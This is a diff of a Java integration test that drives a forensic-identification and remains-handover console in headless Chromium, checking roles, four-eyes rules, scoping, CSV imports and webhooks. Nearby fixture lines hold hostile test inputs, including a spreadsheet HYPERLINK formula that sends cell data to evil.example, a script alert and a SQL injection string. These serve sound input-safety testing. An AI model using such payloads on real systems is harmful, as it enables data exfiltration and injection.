@@ -20,6 +20,8 @@ import org.junit.jupiter.api.MethodOrderer;
 import org.junit.jupiter.api.Order;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestMethodOrder;
+import org.openqa.selenium.By;
+import org.openqa.selenium.support.ui.Select;
 
 import java.net.URI;
 import java.net.URLEncoder;
@@ -348,7 +350,7 @@ class SeedStoryIT {
     }
 
     @Test
-    @Order(5)
+    @Order(6)
     void noOrganisationOutsideTheAgreementReadsChangesOrDetectsItsResources() throws Exception {
         assertThat(storyAgreement).as("the story was played").isNotNull();
         Map<String, String> fixtures = storyFixtures();
@@ -552,8 +554,234 @@ class SeedStoryIT {
             "<script>alert(\"x\")</script>", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1+1)",
             "-2+3", "@cmd", "O'Brien \\\"quoted\\\"", "' OR '1'='1");
 
+    /**
+     * The console in headless Chromium on this platform: a coordinator reads the ledger, examiners propose and
+     * confirm under the four-eyes rule, a laboratory of the other party finds nothing, a subscriber-admin sees a
+     * secret once; names written as markup show as text; every page tested has no serious accessibility fault.
+     */
     @Test
     @Order(4)
+    void peopleDoTheirWorkInTheConsoleInARealBrowserUnderTheApisRules() throws Exception {
+        assertThat(ConsoleBrowser.installed()).as("Debian's chromium and chromium-driver (.ci/run installs them)").isTrue();
+        String examinerA = api.token("examiner-hnatiuk", "lab-ua-kyiv", "UA", "forensic-examiner");
+        // A body of the Kyiv laboratory, examined (through the API) so that an identification may be proposed.
+        String caseId = api.read("identification", "/api/v1/cases?status=RECEIVED&size=1", examinerA)
+                .path("items").get(0).path("id").asText();
+        api.write(201, "identification", "POST", "/api/v1/cases/" + caseId + "/examinations", examinerA,
+                Map.of("kind", "ODONTOLOGY", "examiner", "Dr O. Hnatiuk", "examinedOn", "2025-06-20",
+                        "method", "Dental charting", "findings", "Crown on 16; 36 missing ante mortem"),
+                Map.of("Idempotency-Key", "console-examination-" + caseId));
+        // A handover of two bodies for the browser to carry out, under an agreement of its own.
+        Handover consoleHandover = plannedHandover("E2E-CONSOLE", "Console handover", "Ukraine", "Russia",
+                "Head of delegation", "Zaporizhzhia checkpoint", 10, "2025-06-20");
+        Path screenshots = work.resolve("console-screenshots");
+        try (ConsoleBrowser browser = new ConsoleBrowser(platform.console().baseUrl(), screenshots, work.resolve("chromium"))) {
+            try {
+                browser.signIn("console-ua-coordinator", UA, "UA", "coordinator");
+                browser.open("/agreements");
+                assertThat(browser.driver().findElements(By.cssSelector("table a[href^='/agreements/']"))).isNotEmpty();
+                browser.open("/agreements/" + storyAgreement);
+                assertThat(browser.text(By.id("terms"))).contains("4,812 of 6,000", "80.2%",
+                        "eligible 200, released 197, declined 3, died 0, remaining 0");
+                assertThat(browser.text(By.id("balances"))).contains("+4,812", "Out of tolerance");
+                assertThat(browser.driver().findElements(By.cssSelector("figure.chart rect.series-0"))).isNotEmpty();
+                // The week's receipts per direction: 4,812 bodies and 255 prisoners came to Ukraine, 158 went back.
+                assertThat(browser.text(By.id("weeks"))).contains("2025-W24 RU → UA 5,067", "2025-W24 UA → RU 158");
+                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
+                // The chart is drawn on the server: no inline script or style for the Content-Security-Policy to allow.
+                assertThat(browser.driver().getPageSource()).doesNotContainPattern("<script(?![^>]*\\ssrc=)")
+                        .doesNotContain(" style=");
+                browser.screenshot("agreement");
+
+                browser.driver().findElement(By.cssSelector("button[value='uk']")).click();
+                assertThat(browser.waitFor(By.cssSelector("h2")).getText()).isEqualTo("Умови та їх виконання");
+                assertThat(browser.driver().findElement(By.tagName("html")).getAttribute("lang")).isEqualTo("uk");
+                assertThat(browser.text(By.id("terms"))).contains("4 812 з 6 000");
+                browser.driver().findElement(By.cssSelector("button[value='en']")).click();
+                assertThat(browser.waitFor(By.cssSelector("h2")).getText()).isEqualTo("Terms and their fulfilment");
+                // The agreement's exchange lists, and the persons on one of them (audited reads, as in the API).
+                browser.driver().findElement(By.linkText("Exchange lists")).click();
+                assertThat(browser.waitFor(By.id("exchange-lists")).getText()).contains("AGED_18_TO_25",
+                        "SERIOUSLY_WOUNDED_OR_SICK");
+                browser.driver().findElement(By.cssSelector("#exchange-lists a")).click();
+                assertThat(browser.waitFor(By.id("list-progress")).getText()).startsWith("eligible ");
+                assertThat(browser.driver().findElements(By.cssSelector("#entries tbody tr"))).isNotEmpty();
+                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
+                browser.signOut();
+
+                // Examiner A proposes; a surname written as markup is stored and shown as the text it is.
+                browser.signIn("examiner-hnatiuk", "lab-ua-kyiv", "UA", "forensic-examiner");
+                browser.open("/cases");
+                assertThat(browser.driver().findElements(By.cssSelector("#cases a[href^='/cases/']"))).isNotEmpty();
+                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
+                browser.open("/cases/" + caseId);
+                assertThat(browser.text(By.id("examinations"))).contains("ODONTOLOGY", "Dr O. Hnatiuk", "Crown on 16");
+                new Select(browser.driver().findElement(By.id("method"))).selectByValue("ODONTOLOGY");
+                browser.driver().findElement(By.id("evidence")).sendKeys("Dental records of the family dentist match");
+                browser.driver().findElement(By.id("surname")).sendKeys("<b>Коваленко</b>");
+                browser.driver().findElement(By.id("firstNames")).sendKeys("Андрій");
+                browser.driver().findElement(By.id("nationality")).sendKeys("UA");
+                browser.driver().findElement(By.id("submit-proposal")).click();
+                assertThat(browser.waitFor(By.cssSelector(".proposal-status")).getText()).isEqualTo("PROPOSED");
+                assertThat(browser.text(By.cssSelector(".proposal dl"))).contains("<b>Коваленко</b>");
+                assertThat(browser.driver().findElements(By.cssSelector(".proposal dl b"))).isEmpty();
+                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
+                browser.screenshot("case");
+                // Four eyes: the proposer's own confirmation is refused, with the service's reason.
+                browser.driver().findElement(By.cssSelector(".proposal button.confirm")).click();
+                assertThat(browser.waitFor(By.id("refusal")).getText()).isEqualTo("The service refused");
+                assertThat(browser.bodyText()).contains("Four-eyes");
+                browser.open("/");
+                browser.signOut();
+
+                browser.signIn("examiner-melnyk", "lab-ua-kyiv", "UA", "forensic-examiner");
+                browser.open("/cases/" + caseId);
+                browser.driver().findElement(By.cssSelector(".proposal button.confirm")).click();
+                assertThat(browser.waitFor(By.id("case-status")).getText()).isEqualTo("IDENTIFIED");
+                assertThat(browser.text(By.cssSelector("section[aria-labelledby='established-title']")))
+                        .contains("<b>Коваленко</b>", "Андрій");
+                browser.signOut();
+
+                // Outside one's scope the console answers as the API does: not found.
+                browser.signIn("examiner-volkov", "lab-ru-rostov", "RU", "forensic-examiner");
+                browser.open("/cases/" + caseId);
+                assertThat(browser.waitFor(By.id("refusal")).getText()).isEqualTo("Not found");
+                browser.signOut();
+
+                // Handovers: the story's board, then a new handover carried out in the browser by both parties.
+                browser.signIn("console-ua-coordinator", UA, "UA", "coordinator");
+                // The identified dead of today as the spreadsheet the coordinator downloads from the case queue.
+                String today = LocalDate.now(ZoneOffset.UTC).toString();
+                browser.open("/cases");
+                Object identifiedDead = ((org.openqa.selenium.JavascriptExecutor) browser.driver()).executeAsyncScript(
+                        "const done = arguments[arguments.length - 1];"
+                                + " fetch(arguments[0]).then(r => r.text()).then(done, e => done('failed: ' + e));",
+                        "/cases/identified-dead.csv?from=" + today + "&to=" + today);
+                assertThat((String) identifiedDead).contains("<b>Коваленко</b>", "Андрій");
+                browser.open("/handovers?agreementId=" + storyAgreement);
+                assertThat(browser.text(By.id("state-PARTIALLY_RECEIVED"))).contains("(1)");
+                assertThat(browser.text(By.id("board"))).contains("REMAINS RU → UA", "PRISONERS UA → RU");
+                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
+                browser.screenshot("board");
+                browser.signOut();
+
+                browser.signIn("console-ru-coordinator", "org-ru-coordination", "RU", "coordinator");
+                browser.open("/handovers/" + consoleHandover.transferId());
+                Path manifests = Files.createDirectories(work.resolve("console-manifests"));
+                String columns = "tag,nationality,category,surname,firstNames,patronymic,dateOfBirth,serviceNumber,"
+                        + "recoveryPlace,recoveryDate,personalEffects\n";
+                Path refused = Files.writeString(manifests.resolve("refused.csv"), columns
+                        + "C-1,UA,MILITARY,Бондар,Олег,,,,Бахмут,2025-04-05,\n"
+                        + "C-2,U,MILITARY,,,,,,,2025-04-05,\n");
+                browser.driver().findElement(By.id("manifest")).sendKeys(refused.toString());
+                browser.driver().findElement(By.id("upload-manifest")).click();
+                assertThat(browser.waitFor(By.id("row-errors")).getText()).contains("rows[2].nationality", "rows[2].recoveryPlace")
+                        .doesNotContain("rows[1]");
+                assertThat(browser.text(By.id("manifest-items"))).isEqualTo("0");
+                Path accepted = Files.writeString(manifests.resolve("accepted.csv"), columns
+                        + "C-1,UA,MILITARY,Бондар,Олег,,,,Бахмут,2025-04-05,\n"
+                        + "C-2,UA,UNKNOWN,,,,,,Бахмут,2025-04-05,\n");
+                browser.driver().findElement(By.id("manifest")).sendKeys(accepted.toString());
+                browser.driver().findElement(By.id("upload-manifest")).click();
+                assertThat(browser.waitFor(By.id("handover-state")).getText()).isEqualTo("MANIFEST_SUBMITTED");
+                assertThat(browser.text(By.id("manifest-items"))).isEqualTo("2");
+                browser.driver().findElement(By.id("dispatch")).click();
+                assertThat(browser.waitFor(By.id("handover-state")).getText()).isEqualTo("DISPATCHED");
+                browser.signOut();
+
+                browser.signIn("console-ua-coordinator", UA, "UA", "coordinator");
+                browser.open("/handovers/" + consoleHandover.transferId());
+                browser.driver().findElement(By.id("receipt-count")).sendKeys("1");
+                browser.driver().findElement(By.id("receive")).click();
+                browser.waitFor(By.id("missing")).sendKeys("C-2");
+                browser.driver().findElement(By.id("reconcile")).click();
+                assertThat(browser.waitFor(By.id("handover-state")).getText()).isEqualTo("PARTIALLY_RECEIVED");
+                assertThat(browser.text(By.id("report"))).contains("Declared 2", "Received 1", "Missing 1");
+                assertThat(browser.bodyText()).contains("Missing: C-2");
+
+                // The register: an import refused whole with its rows in place, one that links while its progress
+                // bar follows it (htmx asking again), and a search in Latin letters for names written in Cyrillic.
+                browser.open("/register");
+                String reportColumns = "surname,firstNames,patronymic,script,language,dateOfBirth,serviceNumber,unit,party,"
+                        + "category,circumstances,source,sourceAddress,reportedOn\n";
+                Path badReports = Files.writeString(manifests.resolve("reports-refused.csv"), reportColumns
+                        + "Шевчук,Остап,,Cyrl,uk,1990-01-02,,,UA,MILITARY,,FAMILY_REPORT,,2025-05-30\n"
+                        + ",Ярема,,Cyrl,uk,1991-03-04,,,UA,MILITARY,,FAMILY_REPORT,,2025-05-30\n");
+                browser.driver().findElement(By.id("reports")).sendKeys(badReports.toString());
+                browser.driver().findElement(By.id("import")).click();
+                assertThat(browser.waitFor(By.id("row-errors")).getText()).contains("[2].surname").doesNotContain("[1]");
+                Path reports = Files.writeString(manifests.resolve("reports.csv"), reportColumns
+                        + "Шевчук,Остап,,Cyrl,uk,1990-01-02,,,UA,MILITARY,,FAMILY_REPORT,,2025-05-30\n"
+                        + "Гнатюк,Ярема,,Cyrl,uk,1991-03-04,,,UA,MILITARY,,FAMILY_REPORT,,2025-05-30\n");
+                browser.driver().findElement(By.id("reports")).sendKeys(reports.toString());
+                browser.driver().findElement(By.id("import")).click();
+                new org.openqa.selenium.support.ui.WebDriverWait(browser.driver(), Duration.ofSeconds(60))
+                        .until(driver -> driver.findElement(By.id("import-status")).getText().equals("COMPLETED"));
+                assertThat(browser.driver().findElement(By.id("import-bar")).getAttribute("value")).isEqualTo("2");
+                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
+                browser.open("/register");
+                browser.driver().findElement(By.id("name")).sendKeys("Shevchuk");
+                browser.driver().findElement(By.id("search")).click();
+                assertThat(browser.waitFor(By.id("persons")).getText()).contains("Шевчук", "Остап", "1990-01-02");
+                assertThat(browser.driver().getCurrentUrl()).doesNotContain("Shevchuk").doesNotContain("%D0");
+                browser.signOut();
+
+                // An observer (a press office) reads the counts, as the API gives them, as charts and a table.
+                browser.signIn("console-press", "org-press", null, "observer");
+                browser.open("/statistics?agreementId=" + storyAgreement);
+                JsonNode counts = api.read("identification", "/api/v1/case-statistics?agreementId=" + storyAgreement,
+                        api.token("console-press", "org-press", null, "observer")).path("counts");
+                assertThat(browser.text(By.id("statistics"))).contains(
+                        String.format(java.util.Locale.ENGLISH, "Received %,d", counts.path("received").asLong()),
+                        String.format(java.util.Locale.ENGLISH, "Identified %,d", counts.path("identified").asLong()));
+                assertThat(browser.driver().findElements(By.cssSelector("figure.chart rect.series-0"))).hasSizeGreaterThan(8);
+                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
+                browser.signOut();
+
+                browser.signIn("console-subscriptions", UA, "UA", "subscriber-admin");
+                browser.open("/subscriptions");
+                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
+                String hook = "http://127.0.0.1:9/console-hook";
+                browser.driver().findElement(By.id("url")).sendKeys(hook);
+                browser.driver().findElement(By.id("eventTypes")).sendKeys("agreement.agreement.terminated");
+                browser.driver().findElement(By.id("create-subscription")).click();
+                String secret = browser.waitFor(By.id("secret")).getText();
+                assertThat(secret).startsWith("whsec_");
+                browser.driver().findElement(By.id("to-subscription")).click();
+                assertThat(browser.waitFor(By.id("subscription-status")).getText()).isEqualTo("ACTIVE");
+                assertThat(browser.driver().getPageSource()).doesNotContain(secret);
+                browser.driver().findElement(By.id("send-test")).click();
+                assertThat(browser.waitFor(By.id("deliveries")).getText()).contains("homeward.test");
+                browser.driver().findElement(By.id("pause")).click();
+                assertThat(browser.waitFor(By.id("subscription-status")).getText()).isEqualTo("PAUSED");
+                browser.driver().findElement(By.id("resume")).click();
+                assertThat(browser.waitFor(By.id("subscription-status")).getText()).isEqualTo("ACTIVE");
+                browser.driver().findElement(By.cssSelector("#deliveries a")).click();
+                assertThat(browser.waitFor(By.tagName("h1")).getText()).contains("homeward.test");
+                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
+                browser.driver().findElement(By.id("back-to-subscription")).click();
+                browser.driver().findElement(By.id("rotate")).click();
+                assertThat(browser.waitFor(By.id("secret")).getText()).startsWith("whsec_").isNotEqualTo(secret);
+                browser.open("/subscriptions");
+                assertThat(browser.driver().getPageSource()).contains(hook).doesNotContain(secret);
+            } catch (AssertionError | RuntimeException e) {
+                browser.screenshot("failure");
+                throw e;
+            }
+        }
+        assertThat(api.read("identification", "/api/v1/cases/" + caseId, examinerA).path("status").asText())
+                .isEqualTo("IDENTIFIED");
+        String admin = api.token("console-subscriptions", UA, "UA", "subscriber-admin");
+        for (JsonNode subscription : api.read("notification", "/api/v1/subscriptions?size=100", admin).path("items")) {
+            if (subscription.path("url").asText().equals("http://127.0.0.1:9/console-hook")) {
+                api.send("notification", "DELETE", "/api/v1/subscriptions/" + subscription.path("id").asText(), admin,
+                        null, null, Map.of());
+            }
+        }
+    }
+
+    @Test
+    @Order(5)
     void hostileButValidTextIsStoredVerbatimAndReturnedSafely() throws Exception {
         String ua = api.token("e2e-ua", UA, "UA", "coordinator");
         String ru = api.token("e2e-ru", "org-ru-coordination", "RU", "coordinator");
